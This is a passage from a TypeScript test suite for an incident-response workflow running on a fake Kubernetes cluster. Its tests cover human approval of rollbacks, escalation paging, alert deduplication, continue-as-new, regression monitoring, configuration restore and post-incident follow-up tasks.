        expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'alice', action: 1, decision: 'approve' }] }))).toBe(
          'action #1 is not awaiting approval (expired)',
        );
      }
    },
  );

  it('refuses approvers not on the list, unknown and decided actions, and bad payloads; the first valid decision wins', async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { approvers: ['alice', 'bob'] });
    await waitForStatus(handle, (s) => s.pendingApproval?.action === 1, 'the rollback to await approval');

    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'mallory', action: 1, decision: 'approve' }] }))).toMatch(
      /^mallory is not an allowed approver for default\/.* \(allowed: alice, bob\)$/,
    );
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'alice', action: 7, decision: 'approve' }] }))).toBe(
      'unknown action #7: this incident has 1 action(s)',
    );
    await handle.signal(approveSignal, { by: 'mallory' });
    await handle.signal(approveSignal, {} as never);

    const outcome = await handle.executeUpdate(decideUpdate, { args: [{ by: 'alice', action: 1, decision: 'approve', comment: 'rollback is safe' }] });
    expect(outcome).toMatchObject({ action: 1, approved: true, by: 'alice', command: expect.stringContaining('rollout undo') as unknown });
    expect(await refusalOf(handle.executeUpdate(decideUpdate, { args: [{ by: 'bob', action: 1, decision: 'reject' }] }))).toBe(
      'action #1 was already approved by alice',
    );

    await handle.result();
    const status = await statusOf(handle);
    const ignored = status.timeline.filter((t) => t.kind === 'ignored').map((t) => t.text);
    expect(ignored).toEqual([
      expect.stringMatching(/^approve from mallory: mallory is not an allowed approver/),
      expect.stringMatching(/^bad approve payload: by: /),
    ]);
    expect(cluster.mutations).toHaveLength(1);
    expect(cluster.mutations[0]?.approvedBy).toBe('alice');
  });
});

describe('escalation and status updates', () => {
  it.each([
    {
      when: 'not restored',
      restored: false,
      pages: [
        { level: 1, minute: 0 },
        { level: 2, minute: 15 },
        { level: 3, minute: 30 },
      ],
    },
    { when: 'restored at once', restored: true, pages: [{ level: 1, minute: 0 }] },
  ])('pages L1 at once, and L2 at 15 min and L3 at 30 min only when $when', async ({ restored, pages }) => {
    const { cluster, handle, startedAt } = await incident('bad-rollout', { durations: { approvalTimeout: '1h' } });
    if (restored) {
      await decide(handle, 1, 'approve');
      await handle.result();
    } else {
      await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
      await suite.env.sleep('31m');
      await handle.signal(resolveSignal, { by: 'alice', reason: 'rolled back by hand' });
      await handle.result();
    }
    const sent = pagesOf(cluster, startedAt);
    expect(sent.map((p) => p.level)).toEqual(pages.map((p) => p.level));
    // Timers, not polling: each page leaves at its step, within 2 s of workflow time (the test
    // server's clock runs at real speed while a workflow task is being processed).
    sent.forEach((p, i) => {
      expect(p.minute).toBeGreaterThanOrEqual(pages[i]?.minute ?? NaN);
      expect(p.minute - (pages[i]?.minute ?? NaN)).toBeLessThan(2 / 60);
    });
  });

  it('posts a status update every 15 minutes while open, and resolves the page when closed by hand', async () => {
    const { cluster, handle, startedAt } = await incident('unschedulable');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    await suite.env.sleep('61m');
    await handle.signal(resolveSignal, { by: 'carol', reason: 'nodes added' });
    const outcome = await handle.result();

    const updates = cluster.notifications
      .filter((n) => n.notification.channel === 'chat' && n.notification.event === 'status-update')
      .map((n) => (n.at - startedAt) / minute);
    expect(updates.map(Math.floor)).toEqual([15, 30, 45, 60]);
    expect(outcome).toMatchObject({ resolution: 'manual', actionsApplied: 0 });
    expect(pagesOf(cluster, startedAt, 'resolve')).toHaveLength(1);
    expect(cluster.mutations).toEqual([]);
  });
});

describe('people on the incident', () => {
  it('given an L2 page that the pager keeps refusing for a while, when a person resolves meanwhile, then the pager gets the L2 trigger before the resolve, each message once with its own id', async () => {
    const { cluster, handle, startedAt } = await incident('unschedulable');
    const isL2 = (args: unknown[]) => (args[0] as Notification).channel === 'pager' && (args[0] as Notification).level === 2;
    cluster.fail('notify', webhookDown('pager'), { calls: 4, where: isL2 });
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    await suite.env.sleep('15m');
    await eventually(async () => (cluster.callsOf('notify').some((c) => isL2(c.args)) ? true : undefined), 'the L2 page to be tried');
    await handle.signal(resolveSignal, { by: 'carol' });
    await handle.result();

    const pager = pagesOf(cluster, startedAt, 'trigger').map((p) => `trigger L${p.level ?? '?'}`);
    const sent = cluster.pages.map((p) => (p.notification.event === 'trigger' ? `trigger L${p.notification.level ?? '?'}` : p.notification.event));
    expect(pager).toContain('trigger L2');
    expect(sent.at(-1)).toBe('resolve');
    const ids = cluster.notifications.map((n) => n.notification.id);
    expect(ids.every((id) => typeof id === 'string')).toBe(true);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it("given an applied rollback whose rollout hangs, when a person resolves by hand, then the rollout wait is cancelled and nothing more is done in the incident's name", async () => {
    const { cluster, handle } = await incident('bad-rollout', {}, { autoApprove: ['rollout-undo'] });
    cluster.stalls.add('waitForRollout');
    await waitForStatus(handle, (s) => s.phase === 'verifying', 'the rollout wait');
    await handle.signal(resolveSignal, { by: 'carol', reason: 'fixed by hand' });
    const outcome = await handle.result();

    expect(outcome).toMatchObject({ resolution: 'manual', actionsApplied: 1 });
    const status = await statusOf(handle);
    expect(status.actions[0]).toMatchObject({ outcome: 'cancelled', detail: expect.stringMatching(/verification was stopped/) as unknown });
    expect(cluster.callsOf('verifyRecovery')).toHaveLength(0);
    expect(cluster.mutations).toHaveLength(1);
  });

  it('records an acknowledgement (paged as acknowledge), a note, and a manual escalation (paged at once)', async () => {
    const { cluster, handle, startedAt } = await incident('unschedulable');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    await handle.signal(acknowledgeSignal, { by: 'alice' });
    await handle.signal(addNoteSignal, { by: 'alice', text: 'asked the platform team for two more nodes' });
    await handle.signal(escalateSignal, { by: 'alice', reason: 'customer-facing, need the incident commander' });
    const status = await waitForStatus(handle, (s) => s.escalationLevel === 2, 'the manual escalation');
    await handle.signal(resolveSignal, { by: 'alice' });
    await handle.result();

    expect(status.acknowledged?.by).toBe('alice');
    expect(status.timeline.map((t) => t.text)).toContain('alice: asked the platform team for two more nodes');
    // L1 waits for the diagnosis (at most the page hold): one page carries the hand-over.
    expect(cluster.pages.map((p) => p.notification.event)).toEqual(['trigger', 'acknowledge', 'trigger', 'resolve']);
    // The manual escalation pages L2 when asked, not at 15 minutes.
    expect(pagesOf(cluster, startedAt).map((p) => [p.level, p.minute < 1])).toEqual([
      [1, true],
      [2, true],
    ]);
    // The follow-up drafts the summary from the incident's record: the people are in it.
    const report = await eventually(async () => cluster.reports[0], 'the incident summary');
    expect(report.markdown).toMatch(/\| acknowledged \| .* \(alice\) \|/);
    expect(report.markdown).toContain('**note** alice: asked the platform team for two more nodes');
    expect(report.markdown).toContain('- **Resolution:** manual by alice');
    // Root cause analysis, "Check system events": the events the investigation read, in the report.
    expect(report.markdown).toMatch(
      /### System events\n.*get events --sort-by=\.metadata\.creationTimestamp[^\n]*\n\n- \S+ Warning \*\*FailedScheduling\*\* pod\/\S+ \(x3\): 0\/2 nodes are available/,
    );
  });

  it('drafts the summary with the log context the investigation found around ERROR/FATAL lines (root cause analysis)', async () => {
    const { cluster, handle } = await incident('missing-secret');
    await waitForStatus(handle, (s) => s.diagnosis !== undefined, 'the diagnosis');
    await handle.signal(resolveSignal, { by: 'alice' });
    await handle.result();

    const report = await eventually(async () => cluster.reports[0], 'the incident summary');
    expect(report.markdown).toContain('## Root cause analysis: error logs');
    expect(report.markdown).toMatch(
      /\(previous container\):\n```text\nINFO missing-secret-\w+ starting\nERROR: ANTHROPIC_API_KEY is not set\nINFO exit code 1\n```/,
    );
  });
});

describe('monitoring and alerts', () => {
  it('given a recovered rollback, when the service regresses during the monitor, then mitigation re-opens', async () => {
    const { cluster, handle } = await incident('bad-rollout');
    // The fifth monitor sample sees the pods OOMKilled: a second problem under the first.
    cluster.when('sampleHealth', 5, (w) => void (w.memoryNeed = '400Mi'));
    await decide(handle, 1, 'approve');
    await suite.env.sleep('6m');
    await decide(handle, 2, 'approve');
    const outcome = await handle.result();
    const status = await statusOf(handle);

    expect(outcome.resolution).toBe('mitigated');
    expect(status.investigations).toBe(2);
    expect(status.actions.map((a) => [a.action.kind, a.outcome])).toEqual([
      ['rollout-undo', 'recovered'],
      ['set-resources', 'recovered'],
    ]);
    expect(status.timeline.filter((t) => t.kind === 'monitor').map((t) => t.text)).toContainEqual(expect.stringMatching(/^regression: 2 new restarts/));
    expect(cluster.callsOf('inspectWorkload')).toHaveLength(2);
  });

  it('joins a re-fired alert to the open incident (signal-with-start), counting distinct firings', async () => {
    const { cluster, handle, input, startedAt } = await incident('bad-rollout');
    await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
    const repeat = await openIncident(suite.env.client, input);
    const refired = await openIncident(suite.env.client, input, alertFor(input.service, new Date(startedAt + minute).toISOString()));
    const status = await waitForStatus(handle, (s) => s.alert.fired === 2, 'the re-fired alert to be counted');

    expect(new Set([handle.signaledRunId, repeat.signaledRunId, refired.signaledRunId]).size).toBe(1);
    // Three deliveries: the opening one, Alertmanager's repeat of it (same startsAt), and a new firing.
    expect(status.alert).toMatchObject({ fired: 2, deliveries: 3 });
    expect(pagesOf(cluster, startedAt)).toHaveLength(1);
  });

  it('given a dependency outage, when it comes back and the alert resolves, then the incident verifies, monitors and resolves as recovered', async () => {
    const { cluster, handle, input } = await incident('dependency-down');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    cluster.change((w) => void (w.dependencyUp = true));
    await handle.signal(alertResolvedSignal, { fingerprint: input.alert.fingerprint });
    const outcome = await handle.result();

    expect(outcome).toMatchObject({ resolution: 'recovered', actionsApplied: 0 });
    expect(cluster.callsOf('verifyRecovery')).toHaveLength(1);
    // One look for the restart baseline when the alert resolved, then 30 monitor samples.
    expect(cluster.callsOf('sampleHealth')).toHaveLength(31);
    expect(cluster.mutations).toEqual([]);
  });
});

describe('long life', () => {
  it('continues as new at the history cap, carrying the incident: level, timeline, status cadence', async () => {
    const { cluster, handle, startedAt } = await incident('unschedulable', { limits: { continueAsNewAfterEvents: 200 } });
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    await suite.env.sleep('5h');
    const status = await waitForStatus(handle, (s) => s.run > 1, 'a second run');
    await handle.signal(resolveSignal, { by: 'carol' });
    const outcome = await handle.result();

    expect(outcome).toMatchObject({ resolution: 'manual', escalationLevel: 3 });
    expect(status).toMatchObject({ phase: 'escalated', escalationLevel: 3, openedAt: new Date(startedAt).toISOString() });
    expect(status.timeline[0]?.kind).toBe('opened');
    expect(status.timeline.some((t) => t.text.startsWith(`run ${status.run} continues the incident`))).toBe(true);
    // One L1 (carrying the hand-over), L2 and L3 each: the new run pages nobody again.
    expect(pagesOf(cluster, startedAt).map((p) => p.level)).toEqual([1, 2, 3]);
    const updates = cluster.notifications.filter((n) => n.notification.event === 'status-update').map((n) => Math.floor((n.at - startedAt) / minute));
    expect(updates).toEqual(Array.from({ length: 20 }, (_, i) => (i + 1) * 15));
  });

  it('given an incident awaiting approval, when alerts flood it past the history cap, then it continues as new with the approval still open, asks nobody twice, and applies the fix once', async () => {
    const { cluster, handle, input, startedAt } = await incident('bad-rollout', { limits: { continueAsNewAfterEvents: 200 } });
    await waitForStatus(handle, (s) => s.pendingApproval?.action === 1, 'action #1 to await approval');
    await flood(handle, input, 150, [input.alert, alertFor(input.service, input.alert.startsAt, { fingerprint: 'pod-1' })]);
    const carried = await waitForStatus(handle, (s) => s.run > 1, 'a second run');
    // People's signals still land in the new run.
    await handle.signal(acknowledgeSignal, { by: 'bob' });
    await handle.signal(addNoteSignal, { by: 'bob', text: 'looking at the rollout' });
    await decide(handle, 1, 'approve', 'alice');
    const outcome = await handle.result();

    expect(carried).toMatchObject({ phase: 'awaiting-approval', pendingApproval: { action: 1 } });
    expect(Date.parse(carried.pendingApproval?.expiresAt ?? '') - startedAt).toBeLessThan(16 * minute);
    expect(outcome).toMatchObject({ resolution: 'mitigated', actionsApplied: 1 });
    expect(cluster.mutations.map((m) => [m.action.kind, m.approvedBy])).toEqual([['rollout-undo', 'alice']]);
    expect(cluster.notifications.filter((n) => n.notification.event === 'approval-request')).toHaveLength(1);
    expect(pagesOf(cluster, startedAt).map((p) => p.level)).toEqual([1]);
    const status = await statusOf(handle);
    expect(status.acknowledged?.by).toBe('bob');
    expect(status.timeline.map((t) => t.text)).toEqual(
      expect.arrayContaining(['bob: looking at the rollout', expect.stringMatching(/^run \d+ continues the incident/) as unknown]),
    );
  });

  it('given a recovered service being monitored, when alerts flood it past the history cap, then the monitor goes on in a new run and the incident resolves as mitigated', async () => {
    const { cluster, handle, input } = await incident('scaled-to-zero', { limits: { continueAsNewAfterEvents: 200 } }, { autoApprove: ['scale'] });
    await waitForStatus(handle, (s) => s.phase === 'monitoring', 'the monitor');
    await flood(handle, input, 150);
    const carried = await waitForStatus(handle, (s) => s.run > 1, 'a second run');
    const outcome = await handle.result();

    expect(carried.phase).toBe('monitoring');
    expect(outcome).toMatchObject({ resolution: 'mitigated', actionsApplied: 1 });
    expect(cluster.mutations).toHaveLength(1);
    // The samples add up to the runbook's 30 minutes across both runs (one interrupted sample is taken again).
    expect(cluster.callsOf('sampleHealth').length).toBeGreaterThanOrEqual(30);
    expect(cluster.callsOf('sampleHealth').length).toBeLessThanOrEqual(31);
  });
});

describe('one service, one incident after another', () => {
  /** The way in of the receiver and the CLI: signal-with-start with the input (and the number) the client builds. */
  const incidents = (): Incidents => new Incidents(suite.env.client, loadClientConfig({ DEFAULT_CLUSTER: 'test' }));

  /** The service's newest run, once it waits for people. */
  async function escalatedRun(workflowId: string): Promise<{ handle: WorkflowHandle<typeof incidentWorkflow>; status: IncidentStatus }> {
    const { runId } = await suite.env.client.workflow.getHandle(workflowId).describe();
    const handle = suite.env.client.workflow.getHandle<typeof incidentWorkflow>(workflowId, runId);
    started.push(handle);
    const status = await eventually(async () => {
      const s = await handle.query(statusQuery);
      return s.phase === 'escalated' ? s : undefined;
    }, `${workflowId} to be handed over`);
    return { handle, status };
  }

  it('given an incident resolved by hand while its alert still fires, when Alertmanager re-sends the same firing, then a second incident opens with its own number, resolves, and starts its own follow-up', async () => {
    const service = newService('refired');
    const now = await suite.env.currentTimeMs();
    const cluster = fleet.add(new FakeCluster(service, 'unschedulable', now));
    const alert = alertFor(service, new Date(now).toISOString());
    const client = incidents();

    const workflowId = await client.open(service, alert);
    const first = await escalatedRun(workflowId);
    await first.handle.signal(resolveSignal, { by: 'alice', reason: 'added a node by hand' });
    const firstOutcome = await first.handle.result();
    // Alertmanager's repeat_interval: the same firing (the same startsAt) once more.
    await client.open(service, alert);
    const second = await escalatedRun(workflowId);
    await second.handle.signal(resolveSignal, { by: 'bob', reason: 'added another node' });
    const secondOutcome = await second.handle.result();

    expect((await second.handle.describe()).status.name).toBe('COMPLETED');
    expect(secondOutcome).toMatchObject({ resolution: 'manual' });
    expect(second.status.incidentNumber).toEqual(expect.any(Number));
    expect(second.status.incidentNumber).not.toBe(first.status.incidentNumber);
    expect(secondOutcome.postIncidentWorkflowId).not.toBe(firstOutcome.postIncidentWorkflowId);
    // Each follow-up runs (left running: see the note on the describe below), with its own incident's summary.
    for (const outcome of [firstOutcome, secondOutcome])
      expect((await suite.env.client.workflow.getHandle(outcome.postIncidentWorkflowId).describe()).status.name).toBe('RUNNING');
    const reports = await eventually(async () => (cluster.reports.length === 2 ? cluster.reports : undefined), 'both summaries');
    expect(reports.map((r) => /INC-(\d+)/.exec(r.title)?.[1])).toEqual([first.status.incidentNumber, second.status.incidentNumber].map(String));
    expect(pagesOf(cluster, now, 'resolve')).toHaveLength(2);
  });

  it('given a follow-up already started under the ID the incident would give its own, when the incident resolves, then it says so and completes', async () => {
    const { handle, input, startedAt } = await incident('unschedulable');
    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
    const taken = postIncidentWorkflowId(handle.workflowId, handle.signaledRunId);
    const record: IncidentRecord = {
      incidentId: handle.workflowId,
      service: input.service,
      severity: 'critical',
      alert: { ...input.alert, summary: '', labels: {} },
      openedAt: new Date(startedAt).toISOString(),
      resolvedAt: new Date(startedAt).toISOString(),
      resolution: 'manual',
      escalationLevel: 1,
      findingsSummary: [],
      actions: [],
      timeline: [],
      timelineOmitted: 0,
    };
    await suite.env.client.workflow.start<typeof postIncidentWorkflow>('postIncidentWorkflow', {
      workflowId: taken,
      taskQueue: TASK_QUEUE,
      args: [{ incident: record, due: { immediate: day, followUp: 7 * day, longTerm: 30 * day }, reminderLead: hour, overdueEscalation: day }],
    });
    await handle.signal(resolveSignal, { by: 'carol' });
    const outcome = await handle.result();

    expect((await handle.describe()).status.name).toBe('COMPLETED');
    expect(outcome).toMatchObject({ resolution: 'manual', postIncidentWorkflowId: taken });
    const status = await statusOf(handle);
    expect(status.timeline.at(-1)?.text).toBe(`post-incident follow-up not started: ${taken} already exists (its tasks go on there)`);
  });
});

describe("the monitor's key metrics (runbook Resolution step 4)", () => {
  it.each([
    {
      metric: 'p99 latency',
      worsen: (w: World) => void (w.p99LatencyMs = 900),
      heal: (w: World) => void (w.p99LatencyMs = 120),
      watching: /p99 ≤ 240 ms \(2× the p99 before the incident \(120 ms, the fake cluster's Prometheus\)\)/,
      regression: /^regression: p99 900 ms > 240 ms \(2× the p99 before the incident/,
    },
    {
      metric: 'active agents',
      worsen: (w: World) => void (w.activeAgents = 0),
      heal: (w: World) => void (w.activeAgents = 6),
      watching: /active agents ≥ 3 \(0\.5× the active agents before the incident \(6, the fake cluster's Prometheus\)\)/,
      regression: /^regression: 0 active agents < 3 \(0\.5× the active agents before the incident/,
    },
  ])(
    'given a recovered rollback, when $metric worsens past its baseline threshold during the monitor, then it investigates again, with the evidence on the timeline',
    async ({ worsen, heal, watching, regression }) => {
      const { cluster, handle, input } = await incident('bad-rollout');
      // Healthy to the monitor's fourth sample, then the metric turns; an operator fixes it before the second look.
      cluster.when('sampleHealth', 4, worsen);
      cluster.when('inspectWorkload', 2, heal);
      await decide(handle, 1, 'approve');
      const outcome = await handle.result();
      const status = await statusOf(handle);
      const monitor = status.timeline.filter((t) => t.kind === 'monitor').map((t) => t.text);

      expect(cluster.callsOf('metricsBaseline')[0]?.args[1]).toEqual({ before: input.alert.startsAt });
      expect(monitor[0]).toMatch(watching);
      // One bad sample is noted with what was measured; the second in a row re-opens.
      expect(monitor).toContainEqual(expect.stringMatching(/^sample 4\/30: .*; /));
      expect(monitor).toContainEqual(expect.stringMatching(regression));
      expect(status.investigations).toBe(2);
      // Restored the second time by the operator's fix, not by an action of ours.
      expect(outcome.resolution).toBe('recovered');
      expect(cluster.mutations.map((m) => m.action.kind)).toEqual(['rollout-undo']);
    },
  );

  it.each([
    { restarts: 1, investigations: 1, resolution: 'mitigated', timeline: /^sample 4\/30: .*; 1 new restart\(s\), within the tolerance of 1$/ },
    { restarts: 2, investigations: 2, resolution: 'recovered', timeline: /^regression: 2 new restarts > 1 tolerated; mitigation re-opens$/ },
  ] as const)(
    'given a recovered rollback, when a pod restarts $restarts time(s) during the monitor, then it resolves $resolution after $investigations investigation(s)',
    async ({ restarts, investigations, resolution, timeline }) => {
      const { cluster, handle } = await incident('bad-rollout');
      cluster.when('sampleHealth', 4, (w) => void (w.restarts = restarts));
      await decide(handle, 1, 'approve');
      const outcome = await handle.result();
      const status = await statusOf(handle);
      const monitor = status.timeline.filter((t) => t.kind === 'monitor').map((t) => t.text);

      expect(outcome.resolution).toBe(resolution);
      expect(status.investigations).toBe(investigations);
      // Noted once, not on every sample after it.
      expect(monitor.filter((t) => timeline.test(t))).toHaveLength(1);
      expect(monitor.some((t) => t.startsWith('regression:'))).toBe(restarts > 1);
    },
  );

  it('without a baseline, it judges p99 by the documented default and says so', async () => {
    const { cluster, handle } = await incident('bad-rollout', { regression: { defaultMaxP99LatencyMs: 500 } });
    cluster.baseline = { from: 'no Prometheus configured (PROMETHEUS_URL)' };
    cluster.when('sampleHealth', 4, (w) => void (w.p99LatencyMs = 900));
    cluster.when('inspectWorkload', 2, (w) => void (w.p99LatencyMs = 120));
    await decide(handle, 1, 'approve');
    await handle.result();
    const monitor = (await statusOf(handle)).timeline.filter((t) => t.kind === 'monitor').map((t) => t.text);

    expect(monitor[0]).toMatch(/p99 ≤ 500 ms \(default, no baseline \(no Prometheus configured \(PROMETHEUS_URL\)\)\)/);
    expect(monitor[0]).toMatch(/active agents ≥ 1 \(default: at least one agent/);
    expect(monitor).toContainEqual(expect.stringMatching(/^regression: p99 900 ms > 500 ms \(default, no baseline/));
  });
});

describe("emergency option 3's LOG_LEVEL=DEBUG is put back", () => {
  it('given the ladder set LOG_LEVEL=DEBUG where the key was absent, when the incident resolves after continuing as new, then the key is removed once, dry-run first', async () => {
    const { cluster, handle, input } = await incident('wedged', { limits: { continueAsNewAfterEvents: 200 } });
    cluster.change((w) => {
      delete w.config['LOG_LEVEL'];
      delete w.lastApplied['LOG_LEVEL'];
    });
    for (const n of [1, 2, 3]) await decide(handle, n, 'approve');
    await waitForStatus(handle, (s) => s.phase === 'monitoring', 'the monitor');
    for (let i = 0; i < 150; i++) await handle.signal(alertsSignal, { firing: [input.alert], received: 1000 });
    const carried = await waitForStatus(handle, (s) => s.run > 1, 'a second run');
    const outcome = await handle.result();
    const status = await statusOf(handle);
    const restore = status.actions.find((a) => a.restoresAction === 3);

    expect(carried.phase).toBe('monitoring');
    expect(outcome.resolution).toBe('mitigated');
    // The monitor's thresholds went on in the new run with the snapshot: the baseline was read once.
    expect(cluster.callsOf('metricsBaseline')).toHaveLength(1);
    expect(cluster.world.config).toEqual({ AGENT_MODE: 'production' });
    expect(cluster.mutations.map((m) => m.action)).toEqual([
      expect.objectContaining({ kind: 'rollout-undo' }),
      expect.objectContaining({ kind: 'scale' }),
      expect.objectContaining({ kind: 'patch-config-map', data: { LOG_LEVEL: 'DEBUG' } }),
      expect.objectContaining({ kind: 'patch-config-map', data: {}, remove: ['LOG_LEVEL'] }),
    ]);
    expect(restore).toMatchObject({ n: 4, outcome: 'recovered', decision: { by: 'policy:restore-of-#3' } });
    expect(restore?.command).toContain(`-p '{"data":{"LOG_LEVEL":null}}'`);
    // Dry-run before the apply, as every mutation.
    const previews = cluster.callsOf('previewMutation').map((c) => (c.args[0] as { idempotencyKey: string }).idempotencyKey);
    expect(previews.at(-1)).toMatch(/action-4$/);
    expect(status.actions.filter((a) => a.restoresAction !== undefined)).toHaveLength(1);
    // The restore asked the cluster's governor for a lease, as every change does.
    const leases = cluster.callsOf('requestChangeLease').map((c) => (c.args[0] as { id: string }).id);
    expect(leases.filter((id) => id.endsWith('action-4'))).toHaveLength(1);
  });

  it('given LOG_LEVEL was INFO before the ladder, when the incident is resolved by hand, then it is INFO again', async () => {
    const { cluster, handle } = await incident('wedged');
    for (const n of [1, 2, 3]) await decide(handle, n, 'approve');
    await waitForStatus(handle, (s) => s.phase === 'monitoring', 'the monitor');
    await handle.signal(resolveSignal, { by: 'alice', reason: 'looks fine' });
    const outcome = await handle.result();

    expect(outcome.resolution).toBe('manual');
    expect(cluster.world.config['LOG_LEVEL']).toBe('INFO');
    expect(cluster.mutations.at(-1)?.action).toMatchObject({ kind: 'patch-config-map', data: { LOG_LEVEL: 'INFO' } });
    expect((await statusOf(handle)).timeline.map((t) => t.text)).toContainEqual(
      expect.stringMatching(/^#4 proposed: .*LOG_LEVEL.*INFO.* \(put LOG_LEVEL back as before #3/),
    );
  });
});

describe('scenario latency-regression', () => {
  it('given a recovered rollback, when p99 climbs well above its baseline during the monitor, then the monitor catches it and investigates again until it hands over', async () => {
    const { cluster, handle } = await incident('latency-regression', { limits: { maxInvestigations: 2 } });
    await decide(handle, 1, 'approve');
    // Time skips while the test sleeps: the monitor's samples are a minute apart.
    const status = await skipUntilStatus(suite.env, handle, (s) => s.phase === 'escalated', 'the hand-over');
    const monitor = status.timeline.filter((t) => t.kind === 'monitor').map((t) => t.text);

    expect(status.diagnosis?.category).toBe('healthy');
    expect(status.investigations).toBe(2);
    expect(cluster.mutations.map((m) => m.action.kind)).toEqual(['rollout-undo']);
    expect(monitor.filter((t) => /^regression: p99 2400 ms > 240 ms \(2× the p99 before the incident \(120 ms/.test(t))).toHaveLength(2);
    expect(cluster.notifications.map((n) => n.notification).filter((n) => n.event === 'regression')[0]?.summary).toMatch(/regressed \(p99 2400 ms > 240 ms/);
    expect(status.timeline.map((t) => t.text)).toContainEqual(expect.stringMatching(/2 investigations reached the cap/));
  });
});

// Keep this last in the file: once an abandoned child has completed, the Java test
// server no longer skips time for later tests (seen with server 1.x; see test/replay).
describe('post-incident follow-up', () => {
  it('reminds before the due time, escalates overdue tasks, and completes by signal through the 1-month tasks', async () => {
    const { cluster, handle } = await incident('scaled-to-zero', {}, { autoApprove: ['scale'] });
    const outcome = await handle.result();
    const child = postIncidentHandle(outcome);
    const childStart = (await child.describe()).startTime.getTime();
    const complete = async (group: string): Promise<void[]> => {
      const { tasks } = await child.query(tasksQuery);
      return Promise.all(tasks.filter((t) => t.group === group).map((t) => child.signal(completeTaskSignal, { taskId: t.id, by: 'alice' })));
    };

    await suite.env.sleep('1h');
    await complete('immediate');
    await suite.env.sleep('8d');
    await complete('follow-up');
    await suite.env.sleep(`${21 * day + 20 * hour}ms`);
    await complete('long-term');
    await child.signal(completeTaskSignal, { taskId: 'no-such-task', by: 'alice' });
    const result = await child.result();

    const sent = cluster.notifications
      .filter((n) => ['task-reminder', 'task-overdue'].includes(n.notification.event))
      .map((n) => ({ event: n.notification.event, level: n.notification.level, hours: Math.round(((n.at - childStart) / hour) * 100) / 100 }));
    expect(sent).toEqual([
      { event: 'task-reminder', level: undefined, hours: 7 * 24 - 4 },
      { event: 'task-overdue', level: 2, hours: 7 * 24 },
      { event: 'task-overdue', level: 3, hours: 8 * 24 },
      { event: 'task-reminder', level: undefined, hours: 30 * 24 - 4 },
    ]);
    expect(result.tasks.every((t) => t.done?.by === 'alice')).toBe(true);
    expect(result.ignored.map((i) => i.reason)).toEqual([expect.stringMatching(/^unknown task "no-such-task"/)]);
    expect(cluster.reports).toHaveLength(1);
    expect(cluster.reports[0]?.markdown).toMatch(/## Timeline[\s\S]*## Actions|## Actions[\s\S]*## Timeline/);
    expect(cluster.reports[0]?.markdown).toContain('kubectl -n default scale deployment/');
    expect(result.reportLocation).toBe(`memory://reports/${handle.workflowId}.md`);
    expect((await child.query(tasksQuery)).tasks.find((t) => t.id === 'write-summary')?.draft).toBe(result.reportLocation);
  });
});
